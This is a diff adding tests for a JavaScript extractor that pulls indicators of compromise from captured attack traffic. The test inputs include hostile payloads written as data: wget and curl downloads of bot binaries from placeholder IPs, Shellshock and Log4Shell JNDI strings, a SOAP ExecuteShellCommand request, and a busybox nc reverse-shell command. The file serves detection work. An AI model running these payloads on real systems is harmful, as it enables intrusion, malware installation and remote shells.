@@ -76,7 +76,9 @@ describe('the attack corpus', () => {
     });
     expect(byId('http-jenkins-groovy-script-console').hashes)
       .toEqual(['fb101f4db773ad15e3de4016e4b6516a7232dc499d8869a279524bf34a28f156']);
-    expect(byId('http-huawei-hg532-cve-2017-17215')).toMatchObject({ urls: [], hashes: [] });
+    expect(byId('http-huawei-hg532-cve-2017-17215'))
+      .toMatchObject({ urls: [], domains: [], hashes: [] });
+    expect(byId('seed-52869-upnp-addportmapping-injection').domains).toEqual([]);
   });
 });
 
@@ -113,6 +115,53 @@ describe('false-positive traps', () => {
     expect(iocs.downloads).toEqual(['wget http://198.51.100.50/bot -O b',
       'tftp -g -r t 198.51.100.50']);
     expect(iocs.files).toEqual(['bot', 'b', 't']);
+  });
+
+  it('takes XML namespaces, schemas and DTDs for vocabularies', () => {
+    const soap = '<?xml version="1.0"?><!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" '
+      + '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><s:Envelope '
+      + 'xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
+      + "s:encodingStyle='http://schemas.xmlsoap.org/soap/encoding/' xsi:schemaLocation="
+      + '"http://example.com/ns http://example.com/ns.xsd"><a:Action>'
+      + 'http://schemas.dmtf.org/wbem/wscim/1/cim-schema/2/SCX_OperatingSystem/ExecuteShellCommand'
+      + '</a:Action><c>`wget http://198.51.100.44/e -O e`</c></s:Envelope>';
+    expect(extractIocs(event(soap))).toMatchObject({ urls: ['http://198.51.100.44/e'],
+      ips: ['198.51.100.44'], domains: [] });
+  });
+
+  it('takes a self-describing User-Agent for the scanner\'s identity', () => {
+    const payload = 'GET / HTTP/1.1\r\nHost: 203.0.113.10\r\nUser-Agent: Mozilla/5.0 '
+      + '(compatible; ResearchScan/1.0; +https://scan.example.org/bot; abuse@example.net) '
+      + 'Our website is research.example.com\r\nReferer: http://198.51.100.3/r\r\n\r\n';
+    expect(extractIocs(event(payload))).toMatchObject({ urls: ['http://198.51.100.3/r'],
+      ips: ['198.51.100.3'], domains: [] });
+    const header = extractIocs(event('', { fields: { headers: [
+      ['user-agent', 'CensysInspect/1.1; +https://about.example.org/'],
+      ['referer', 'http://example.com/'],
+    ] } }));
+    expect(header).toMatchObject({ urls: ['http://example.com/'], domains: ['example.com'] });
+  });
+
+  it('reads a User-Agent carrying code: Shellshock, Log4Shell, commands', () => {
+    const agents = ['() { :; }; /bin/ping -c1 c2.example.net',
+      '${jndi:ldap://198.51.100.5:1389/a}', 'x; curl -s http://198.51.100.6/s'];
+    const iocs = extractIocs(event(agents.map((a) => `GET / HTTP/1.1\r\nUser-Agent: ${a}\r\n\r\n`)
+      .join('')));
+    expect(iocs.domains).toEqual(['c2.example.net']);
+    expect(iocs.ips).toEqual(['198.51.100.5', '198.51.100.6']);
+    expect(iocs.urls).toEqual(['http://198.51.100.6/s']);
+  });
+
+  it('lists a command once when a layer only drops its needless backslashes', () => {
+    const iocs = extractIocs(event(String.raw`GET /shell?cd+/tmp;wget+http:/\/198.51.100.21/arm7;`
+      + 'chmod+777+arm7 HTTP/1.1\r\n\r\n'));
+    expect(iocs.downloads).toEqual(['wget+http://198.51.100.21/arm7']);
+    expect(iocs.urls).toEqual(['http://198.51.100.21/arm7']);
+  });
+
+  it('reads form-encoded words as words, not as base64 of a junk download', () => {
+    const iocs = extractIocs(event('GET /x?c=busybox+nc+-e0s+8a+dvu+XtmY+-e+/bin/sh HTTP/1.1'));
+    expect(iocs.downloads).toEqual(['busybox nc -e0s 8a dvu XtmY -e /bin/sh']);
   });
 
   it('takes the SLAVEOF address of a Redis command', () => {
